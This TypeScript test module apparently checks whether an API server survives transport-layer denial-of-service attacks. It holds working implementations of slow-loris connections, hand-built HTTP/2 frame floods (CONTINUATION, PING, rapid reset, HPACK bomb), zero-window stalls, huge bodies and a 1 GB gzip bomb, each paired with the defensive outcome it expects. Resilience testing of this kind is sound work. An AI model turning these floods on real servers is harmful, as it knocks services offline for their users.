// Connections that hold, flood, or lie about their length. The victim's timeouts are seconds here, not minutes.
import assert from 'node:assert/strict';
import { connect as connectHttp2, constants } from 'node:http2';
import { connect as connectTcp, type Socket } from 'node:net';
import { createGzip, gzipSync } from 'node:zlib';
import type { Attack, AttackTable } from '../attack.ts';
import { codesOf, openTls } from '../send.ts';
import type { ShortTimeouts, Victim, Who } from '../victim.ts';

export const shortTimeouts: ShortTimeouts = {
  handshakeMs: 1_000,
  headersMs: 1_000,
  bodyMs: 2_000,
  answerMs: 3_000,
  idleMs: 1_000,
};
/** Beyond the longest of them, and two sweeps. */
const patienceMs = 12_000;
const configMaps = '/api/v1/namespaces/team/configmaps';

const closed = (socket: Socket): Promise<void> =>
  new Promise((resolve) => (socket.closed ? resolve() : void socket.once('close', () => resolve())));

/** All of them end within the patience; otherwise says how many are left. */
async function allClosed(sockets: readonly Socket[]): Promise<void> {
  let timer: ReturnType<typeof setTimeout> | undefined;
  const late = new Promise<boolean>((resolve) => (timer = setTimeout(() => resolve(true), patienceMs)));
  const isLate = await Promise.race([Promise.all(sockets.map(closed)).then(() => false), late]);
  clearTimeout(timer);
  const left = sockets.filter((socket) => !socket.closed).length;
  for (const socket of sockets) socket.destroy();
  assert.ok(!isLate, `${left} of ${sockets.length} connections are still open`);
}

const many = 100;

/** Connections that send a beginning and then, if told to, a little more now and again. */
const slow = (
  name: string,
  who: Who,
  begin: string,
  drip: string,
  protocol: 'h2' | 'http/1.1' = 'http/1.1',
): Attack => ({
  name,
  outcome: 'closed after its timeout',
  async send(victim) {
    const sockets = await Promise.all(
      Array.from({ length: many }, () => openTls(victim.url, victim.ca, victim.identity(who), protocol)),
    );
    for (const socket of sockets) {
      socket.resume();
      socket.write(Buffer.from(begin, 'latin1'));
    }
    const dripping = setInterval(() => {
      if (drip !== '') for (const socket of sockets) if (socket.writable) socket.write(drip);
    }, 300);
    try {
      await allClosed(sockets);
    } finally {
      clearInterval(dripping);
    }
  },
});

const preface = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
/** One HTTP/2 frame (RFC 9113, 4.1). */
function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}
const settings = frame(4, 0, 0);
/** GET https /version, by HPACK's static table and literals. */
const headersOf = (path: string): Buffer =>
  Buffer.concat([
    Buffer.from([0x82, 0x87, 0x44, path.length]),
    Buffer.from(path),
    Buffer.from([0x41, 1, 0x78]),
  ]);

/** Raw frames, over and over for two seconds or until the server has enough. */
const flood = (
  name: string,
  outcome: string,
  frames: (turn: number) => Buffer,
  first: Buffer = Buffer.alloc(0),
): Attack => ({
  name,
  outcome,
  async send(victim) {
    const socket = await openTls(victim.url, victim.ca, victim.identity('mallory'), 'h2');
    socket.on('data', () => {});
    socket.write(Buffer.concat([Buffer.from(preface), settings, first]));
    const untilMs = performance.now() + 2_000;
    for (let turn = 0; performance.now() < untilMs && socket.writable; turn++) {
      if (!socket.write(frames(turn)))
        await Promise.race([
          new Promise((resolve) => socket.once('drain', resolve)),
          closed(socket),
          new Promise((resolve) => setTimeout(resolve, 200)),
        ]);
      else await new Promise((resolve) => setImmediate(resolve));
    }
    socket.destroy();
  },
});

const repeat = (count: number, make: (i: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, i) => make(i)));

/** A body that is sent until the server has answered or hung up. */
async function stream(
  victim: Victim,
  who: Who,
  head: string,
  chunk: Buffer,
  bytes: number,
): Promise<{ text: string; sent: number }> {
  const socket = await openTls(victim.url, victim.ca, victim.identity(who));
  const got = { text: '' };
  let sent = 0;
  socket.on('data', (data: Buffer) => (got.text += data.toString('latin1')));
  socket.write(head);
  while (sent < bytes && socket.writable && !/\r\n\r\n/.test(got.text)) {
    sent += chunk.length;
    if (!socket.write(chunk))
      await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), closed(socket)]);
  }
  const deadline = performance.now() + 5_000;
  while (got.text === '' && !socket.closed && performance.now() < deadline)
    await new Promise((resolve) => setTimeout(resolve, 20));
  socket.destroy();
  return { text: got.text, sent };
}

const megabyte = 1024 * 1024;
const post = (length: string, more = ''): string =>
  `POST ${configMaps} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n${length}\r\n${more}\r\n`;

const large = (name: string, head: string, chunk: Buffer, wanted: number[] = [413]): Attack => ({
  name,
  outcome: wanted.join(' or '),
  maxGrowthBytes: 100 * megabyte,
  async send(victim) {
    const results = await Promise.all(
      Array.from({ length: 5 }, () => stream(victim, 'alice', head, chunk, 100 * megabyte)),
    );
    for (const { text } of results) assert.ok(wanted.includes(codesOf(text)[0] ?? 0), text.slice(0, 300));
  },
});

const chunked = (data: Buffer): Buffer =>
  Buffer.concat([Buffer.from(`${data.length.toString(16)}\r\n`), data, Buffer.from('\r\n')]);

async function gzipOf(bytes: number): Promise<Buffer> {
  const gzip = createGzip({ level: 9 });
  const parts: Buffer[] = [];
  gzip.on('data', (part: Buffer) => parts.push(part));
  const zeros = Buffer.alloc(megabyte, 0x20);
  for (let i = 0; i < bytes / megabyte; i++)
    if (!gzip.write(zeros)) await new Promise((resolve) => gzip.once('drain', resolve));
  await new Promise((resolve) => gzip.end(() => resolve(undefined)));
  return Buffer.concat(parts);
}

const bodies: Attack[] = [
  large(
    'five bodies of 100 MB with their length',
    post(`Content-Length: ${100 * megabyte}`),
    Buffer.alloc(64 * 1024, 0x20),
  ),
  large(
    'five bodies of 100 MB in chunks',
    post('Transfer-Encoding: chunked'),
    chunked(Buffer.alloc(64 * 1024, 0x20)),
  ),
  {
    name: 'a gzip bomb of 1 GB',
    outcome: '413',
    code: 413,
    maxGrowthBytes: 100 * megabyte,
    send: async (victim) => {
      const body = await gzipOf(1024 * megabyte);
      return await victim.ask('alice', { path: configMaps, headers: { 'content-encoding': 'gzip' }, body });
    },
  },
  {
    name: 'gzip in gzip',
    outcome: '415',
    code: [400, 415],
    send: (victim) =>
      victim.ask('alice', {
        path: configMaps,
        headers: { 'content-encoding': 'gzip, gzip' },
        body: gzipSync(gzipSync('{}')),
      }),
  },
  {
    name: 'gzip that breaks off',
    outcome: '400',
    code: 400,
    send: (victim) =>
      victim.ask('alice', {
        path: configMaps,
        headers: { 'content-encoding': 'gzip' },
        body: gzipSync('x'.repeat(1000)).subarray(0, 20),
      }),
  },
  {
    name: '250 compressed bodies whose clients leave half way',
    outcome: 'a write after it is answered',
    async send(victim) {
      for (let i = 0; i < 250; i++) {
        const socket = await openTls(victim.url, victim.ca, victim.identity('alice'));
        socket.write(post('Content-Length: 1000', 'Content-Encoding: gzip\r\n'));
        socket.write(gzipSync('x'.repeat(1000)).subarray(0, 15));
        setImmediate(() => socket.destroy());
      }
      const answer = await victim.ask('alice', {
        path: configMaps,
        body: { metadata: { generateName: 'after-' } },
      });
      assert.equal(answer.code, 201, answer.body);
    },
  },
  {
    name: 'a URL of 1 MB',
    outcome: '431 or closed',
    code: [0, 414, 431],
    send: (victim) => victim.ask('alice', { path: `${configMaps}?labelSelector=${'x'.repeat(megabyte)}` }),
  },
];

const windows: Attack[] = [
  {
    name: 'HTTP/2 window 0: 250 lists that nobody reads, on 4 connections',
    outcome: 'cut off after the time to answer; those of the same priority level wait that long',
    maxGrowthBytes: 200 * megabyte,
    bystanderMs: 8_000,
    async send(victim) {
      for (let i = 0; i < 10; i++)
        await victim.ask('alice', {
          path: configMaps,
          body: { metadata: { generateName: 'wide-' }, data: { a: 'x'.repeat(100_000) } },
        });
      const sessions = Array.from({ length: 4 }, () => {
        const session = connectHttp2(victim.url, {
          ca: victim.ca,
          ...victim.identity('alice'),
          settings: { initialWindowSize: 0 },
        });
        session.on('error', () => {});
        return session;
      });
      const ends = sessions.flatMap((session) =>
        Array.from({ length: 250 }, () => {
          const stream = session.request({ ':path': configMaps });
          stream.on('error', () => {});
          return new Promise<void>((resolve) => stream.once('close', () => resolve()));
        }),
      );
      let timer: ReturnType<typeof setTimeout> | undefined;
      const late = new Promise<string>((resolve) => (timer = setTimeout(() => resolve('late'), patienceMs)));
      const result = await Promise.race([Promise.all(ends), late]);
      clearTimeout(timer);
      for (const session of sessions) session.destroy();
      assert.notEqual(result, 'late', 'streams are still open');
    },
  },
  {
    name: 'HTTP/2 rapid reset',
    outcome: 'the bystander is served after it, memory bounded',
    async send(victim) {
      const session = connectHttp2(victim.url, { ca: victim.ca, ...victim.identity('mallory') });
      session.on('error', () => {});
      const untilMs = performance.now() + 2_000;
      while (performance.now() < untilMs && !session.destroyed && !session.closed) {
        for (let i = 0; i < 200 && !session.destroyed && !session.closed; i++) {
          const stream = session.request({ ':path': '/api/v1/pods' });
          stream.on('error', () => {});
          stream.close(constants.NGHTTP2_CANCEL);
        }
        await new Promise((resolve) => setImmediate(resolve));
      }
      session.destroy();
    },
  },
];

/** Whether the connection is closed is the library's choice: what is checked is the server. */
const survives = 'the bystander is served after it, memory bounded';
const floods: Attack[] = [
  flood('HTTP/2 PING flood', survives, () => repeat(500, () => frame(6, 0, 0, Buffer.alloc(8)))),
  flood('HTTP/2 SETTINGS flood', survives, () => repeat(500, () => settings)),
  flood(
    'HTTP/2 CONTINUATION flood',
    survives,
    () =>
      repeat(50, () =>
        frame(9, 0, 1, Buffer.concat([Buffer.from([0x40, 1, 0x61, 0x7e]), Buffer.alloc(0x7e, 0x61)])),
      ),
    frame(1, 0, 1, headersOf('/version')),
  ),
  flood(
    'HTTP/2 empty DATA frames',
    survives,
    () => repeat(500, () => frame(0, 0, 1)),
    frame(1, 4, 1, headersOf('/version')),
  ),
  flood('HTTP/2 PRIORITY flood', survives, (turn) =>
    repeat(500, (i) => frame(2, 0, ((turn * 500 + i) % 10_000) * 2 + 1, Buffer.from([0, 0, 0, 0, 1]))),
  ),
  flood('HTTP/2 WINDOW_UPDATE flood', survives, () =>
    repeat(500, () => frame(8, 0, 0, Buffer.from([0, 0, 0, 1]))),
  ),
  flood('HTTP/2 frames of a type that nobody knows', survives, () =>
    repeat(50, () => frame(0xee, 0xff, 1, Buffer.alloc(16_384))),
  ),
  flood(
    'HTTP/2 HPACK table bomb',
    survives,
    (turn) => frame(1, 5, turn * 2 + 3, Buffer.concat([headersOf('/version'), Buffer.alloc(8_000, 0xbe)])),
    frame(
      1,
      5,
      1,
      Buffer.concat([
        headersOf('/version'),
        Buffer.from([0x40, 1, 0x61, 0x7f, 0xa1, 0x1e]),
        Buffer.alloc(4_000, 0x61),
      ]),
    ),
  ),
];

const chunkedHead = `POST ${configMaps} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`;

const slowOnes: Attack[] = [
  slow('slow-loris: headers', 'anonymous', 'GET /version HTTP/1.1\r\nHost: x\r\n', 'X-A: b\r\n'),
  slow('slow-loris: nothing after the handshake', 'anonymous', '', ''),
  slow('slow-loris: a body by the byte', 'alice', chunkedHead, '1\r\n \r\n'),
  slow('slow-loris: a body by the byte from nobody', 'anonymous', chunkedHead, '1\r\n \r\n'),
  slow('slow-loris: HTTP/2 without a stream', 'anonymous', preface + settings.toString('latin1'), '', 'h2'),
  slow(
    'slow-loris: HTTP/2 headers that never end',
    'anonymous',
    preface + settings.toString('latin1') + frame(1, 0, 1, headersOf('/version')).toString('latin1'),
    '',
    'h2',
  ),
  slow('slow-loris: half a HTTP/2 preface', 'anonymous', 'PRI * HTTP/2.0\r\n', '', 'h2'),
  slow(
    'an upgrade that is refused and never hangs up',
    'mallory',
    'GET /api/v1/namespaces/team/pods/on-node-1/exec HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n',
    'x',
  ),
  {
    name: 'slow-loris: half a TLS handshake',
    outcome: 'closed after its timeout',
    async send(victim) {
      const { hostname, port } = new URL(victim.url);
      const sockets = Array.from({ length: many }, () => connectTcp(Number(port), hostname));
      for (const socket of sockets) {
        socket.on('error', () => {});
        socket.resume();
        socket.write(Buffer.from([0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]));
      }
      await allClosed(sockets);
    },
  },
];

export const transport: AttackTable = {
  title: 'Transport',
  attacks: [...slowOnes, ...windows, ...floods, ...bodies],
};
